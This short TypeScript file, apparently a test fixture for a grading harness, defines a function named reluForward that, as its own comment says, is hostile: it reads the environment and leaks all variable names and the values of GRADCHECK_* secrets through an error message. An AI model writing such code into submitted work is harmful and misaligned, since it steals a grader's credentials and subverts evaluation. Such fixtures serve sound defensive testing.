/**
 * Hostile: reads the environment it runs in (a grader's tokens, paths, a results location) and
 * sends it back in its error message: the names of all variables, and the values of GRADCHECK_*.
 */
export function reluForward(): never {
  const env = Object.entries(process.env);
  const secrets = env.filter(([k]) => k.startsWith('GRADCHECK_')).map(([k, v]) => `${k}=${v}`);
  throw new Error(`secrets [${secrets.join(' ')}] names [${env.map(([k]) => k).join(' ')}]`);
}

export function reluBackward(): never {
  throw new Error('unreachable');
}
